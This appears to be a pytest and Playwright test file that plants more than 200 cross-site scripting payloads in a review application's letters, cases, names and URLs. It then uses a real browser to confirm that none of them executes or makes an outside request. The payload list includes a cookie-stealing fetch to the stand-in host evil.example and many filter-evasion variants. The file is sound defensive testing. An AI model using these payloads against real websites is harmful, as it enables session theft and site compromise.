"""Script injection: at least 200 generated tries in every field, shown by a real browser."""

from collections.abc import Iterator
from dataclasses import dataclass, field
from itertools import cycle, islice, product
from urllib.parse import quote

import pytest
from playwright.sync_api import Browser, ConsoleMessage, Page, Request

from anonymizer.model import Channel, Direction
from service import actions
from service.actions import Desk, IncomingLetter
from service.actions.access import OPERATOR, add_key, add_person
from service.workflow.errors import BadImport
from service.workflow.people import Role
from service.workflow.states import LetterState
from tests.factories import HEADER, NUMBER, donor_number, send_back, version_of, work_all
from tests.integration.server import served
from tests.web.actors import House, house

#: What a script would do: leave a sign, or knock at another house.
DEEDS = ("window.hit=1", "alert(1)", "fetch('//evil.example/'+document.cookie)")
#: How it could get in; {} is the deed.
WAYS = (
    "<script>{}</script>",
    "<ScRiPt >{}</sCrIpT >",
    "</script><script>{}</script>",
    "<img src=x onerror={}>",
    '<img src="x" onerror="{}">',
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<svg><animate onbegin={} attributeName=x>",
    "<body onload={}>",
    "<iframe srcdoc='<script>parent.{}</script>'></iframe>",
    "<iframe src=javascript:{}></iframe>",
    "<a href=javascript:{}>x</a>",
    "<form action=javascript:{}><button autofocus onfocus={}>x</button></form>",
    "<input autofocus onfocus={}>",
    "<details open ontoggle={}>x</details>",
    "<video><source onerror={}></video>",
    "<object data=javascript:{}></object>",
    "<embed src=javascript:{}>",
    "<base href=//evil.example/><script src=x.js></script>{}",
    "<link rel=stylesheet href=//evil.example/x.css>{}",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<style>@import '//evil.example/x.css';</style>{}",
    "<math><mtext></mtext><mglyph><style></math><img src onerror={}>",
    "<template><script>{}</script></template><img src=x onerror={}>",
    "</textarea><script>{}</script>",
    "</title><script>{}</script>",
    "--><script>{}</script>",
    "]]><script>{}</script>",
    '"><script>{}</script>',
    "'><img src=x onerror={}>",
    '" autofocus onfocus="{}',
    "' onmouseover='{}' style='position:fixed;inset:0",
    "{{{{constructor.constructor('{}')()}}}}",
    "${{{}}}",
    "{{% for x in [1] %}}{}{{% endfor %}}",
    "&lt;script&gt;{}&lt;/script&gt;",
    "&#60;script&#62;{}&#60;/script&#62;",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e",
    "%3Cscript%3E{}%3C/script%3E",
    "＜script＞{}＜/script＞",
    "<script\u200b>{}</script\u200b>",
    "\u202e<script>{}</script>",
    "+ADw-script+AD4-{}+ADw-/script+AD4-",
    "<scr<script>ipt>{}</scr</script>ipt>",
    "<svg/onload={}//",
    "<img/src/onerror={}>",
    "<x onclick={} tabindex=1 id=x>x</x>",
    "<marquee onstart={}>x</marquee>",
    "<button popovertarget=x onclick={}>x</button><div popover id=x onbeforetoggle={}>x</div>",
    "javascript:{}",
    "data:text/html,<script>{}</script>",
    '<noscript><p title="</noscript><img src=x onerror={}>">',
    "<xml id=x><a><b>&lt;img src=x onerror={}&gt;</b></a></xml>",
    "<table background=javascript:{}><td background=javascript:{}>",
    "<isindex type=image src=1 onerror={}>",
    "<audio src onloadstart={}>",
    "<select autofocus onfocus={}><option>x</select>",
    "<keygen autofocus onfocus={}>",
    "<script type=module>import '//evil.example/x.js';{}</script>",
    "<link rel=modulepreload href=//evil.example/x.js>{}",
    "<script nonce='' >{}</script>",
    "<script src=data:text/javascript,{}></script>",
    "<frameset onload={}>",
    "<div style=animation-name:x onanimationstart={}></div><style>@keyframes x{{}}</style>",
    "<div style=background:url(//evil.example/x)>{}</div>",
    "<img srcset=//evil.example/x.png>{}",
    "<portal src=javascript:{}></portal>",
)
TRIES = tuple(way.replace("{}", deed) for way, deed in product(WAYS, DEEDS))
PER_LETTER = 51


@dataclass(frozen=True, kw_only=True)
class Watched:
    """A browser page, and what must not happen on it."""

    page: Page
    trouble: list[str] = field(default_factory=list)

    def go(self, address: str) -> None:
        """Open a page and look for a sign that a script ran."""
        self.page.goto(address)
        if self.page.evaluate("window.hit"):
            self.trouble.append(f"a script ran on {address}")


@pytest.fixture(scope="module")
def here(tmp_path_factory: pytest.TempPathFactory) -> Iterator[House]:
    """A house with the tries in every field that takes words."""
    with house(tmp_path_factory.mktemp("injection")) as made:
        _fill(made)
        yield made


@pytest.fixture(scope="module")
def site(here: House) -> Iterator[str]:
    """The application."""
    with served(here.app) as url:
        yield url


@pytest.fixture
def watched(
    here: House, site: str, browser: Browser, request: pytest.FixtureRequest
) -> Iterator[Watched]:
    """A real browser of somebody with this role; at the end nothing may have happened."""
    context = browser.new_context()
    cookie = here.staff[request.param].cookies["session"]
    context.add_cookies([{"name": "session", "value": cookie, "url": site}])
    made = Watched(page=context.new_page())
    watch(made, site)
    yield made
    context.close()
    assert made.trouble == []


@pytest.mark.browser
@pytest.mark.parametrize("watched", [Role.SENIOR], indirect=True)
def test_no_try_in_a_letter_or_a_case_runs(here: House, site: str, watched: Watched) -> None:
    """On every page that shows letters, cases, reasons, notices, or words from the address."""
    assert len(TRIES) >= 200
    letters = _letters(here)
    assert len(letters) * PER_LETTER >= len(TRIES)
    for letter_id in letters:
        for tail in ("", "/final", "/return", "/notices"):
            watched.go(f"{site}/review/letters/{letter_id}{tail}")
        # shown as words, not left out
        assert "window.hit" in _text(watched, site, letter_id)
    for path in (
        "/review?tab=hold",
        "/review?tab=returned",
        "/review?tab=all",
        "/review/allocation",
        "/review/cases",
        "/review/cases/X-0",
        "/review/waiting",
        "/review/dispatch",
        "/review/audit",
        "/review/account",
    ):
        watched.go(site + path)


@pytest.mark.browser
@pytest.mark.parametrize("watched", [Role.ADMIN], indirect=True)
def test_no_try_in_a_name_runs(site: str, watched: Watched) -> None:
    """Names of people and of clients."""
    for path in ("/review/people", "/review/keys"):
        watched.go(site + path)
    assert "script" in watched.page.inner_text("main")


@pytest.mark.browser
@pytest.mark.parametrize("watched", [Role.SENIOR], indirect=True)
def test_no_try_in_an_address_runs(here: House, site: str, watched: Watched) -> None:
    """Searches, tabs, notices, ids: errors repeat nothing."""
    places = cycle(
        (
            "/review/allocation?said={}",
            "/review?said={}",
            "/review?tab={}",
            "/review/letters/{}",
            "/review/cases/{}",
            "/sign-in/{}",
            f"/review/letters/{here.letter_id}/return?kind={{}}",
            "/{}",
        )
    )
    for place, one in islice(zip(places, TRIES[::8], strict=False), 24):
        watched.go(site + place.replace("{}", quote(one, safe="")))


def watch(watched: Watched, site: str) -> None:
    """Write down requests elsewhere, messages, dialogs and errors."""

    def on_request(request: Request) -> None:
        if not request.url.startswith((site, "data:")):
            watched.trouble.append(f"a request to {request.url[:80]}")

    def on_message(message: ConsoleMessage) -> None:
        # markup that got through would show as a refusal of the policy, at the least
        if message.type in {"error", "warning"} and "Failed to load resource" not in message.text:
            watched.trouble.append(message.text[:200])

    def on_dialog(dialog: object) -> None:
        watched.trouble.append("a dialog")
        dialog.dismiss()  # type: ignore[attr-defined]  # playwright's own

    watched.page.on("request", on_request)
    watched.page.on("console", on_message)
    watched.page.on("dialog", on_dialog)
    watched.page.on("pageerror", lambda error: watched.trouble.append(str(error)[:200]))


def _fill(made: House) -> None:
    desk = made.desk
    senior = made.staff[Role.SENIOR].person
    assert senior is not None
    _add_cases(desk)
    for number, start in enumerate(range(0, len(TRIES), PER_LETTER)):
        text = "Dear friend,\n" + "\n".join(TRIES[start : start + PER_LETTER]) + " my name is Anna"
        incoming = IncomingLetter(
            content=text.encode(),
            channel=Channel.UPLOAD,
            direction=Direction.DONOR_TO_PATIENT,
            cover_number=NUMBER if number % 3 else TRIES[number],
        )
        actions.receive_letter(desk, senior, incoming=incoming)
    work_all(desk)
    for number, letter_id in enumerate(_letters(made)):
        row_state = actions.open_letter(desk, senior, letter_id=letter_id).state
        if row_state.value != "ready":
            continue
        version = version_of(desk, letter_id)
        actions.claim_letter(desk, senior, letter_id=letter_id, version=version)
        words = "\n".join(TRIES[number * 7 : number * 7 + 7])
        if number % 2:
            send_back(desk, senior, letter_id, text=words, reason=words)
        else:
            actions.hold_letter(
                desk, senior, letter_id=letter_id, version=version + 1, reason=words
            )
    for one in TRIES[:30]:
        if one.isprintable() and len(one) <= 100:
            add_person(desk, OPERATOR, name=one, roles=frozenset({Role.PROOFREADER}))
        if one.isascii() and len(one) <= 60:
            add_key(desk, OPERATOR, client=one)


def _add_cases(desk: Desk) -> None:
    """Clinics and known names with a try in them, as far as the register takes them."""
    taken = 0
    for number, one in enumerate(TRIES[:40]):
        quoted = '"' + one.replace('"', '""').replace("\n", " ") + '"'
        row = f"{donor_number(900 + number)},X-{taken},DE,US,X-{number},{quoted},,"
        try:
            actions.import_cases(
                desk, OPERATOR, content=f"{HEADER}\n{row}\n".encode(), file_name="cases.csv"
            )
        except BadImport:
            continue
        taken += 1
    assert taken > 20


def _letters(made: House) -> list[str]:
    senior = made.staff[Role.SENIOR].person
    assert senior is not None
    others = {made.letter_id, made.client_letter_id}
    found = actions.list_queue(made.desk, senior, states=frozenset(LetterState))
    return [one.letter_id for one in found if one.letter_id not in others]


def _text(watched: Watched, site: str, letter_id: str) -> str:
    watched.go(f"{site}/review/letters/{letter_id}")
    return watched.page.inner_text("main")


@pytest.mark.browser
@pytest.mark.parametrize("watched", [Role.SENIOR], indirect=True)
def test_a_script_that_ran_would_be_seen(watched: Watched) -> None:
    """So that the tests above do not pass because nobody looks."""
    watched.go("data:text/html,<script>window.hit=1;alert(1)</script>")
    assert any("a script ran" in one for one in watched.trouble)
    assert "a dialog" in watched.trouble
    watched.trouble.clear()
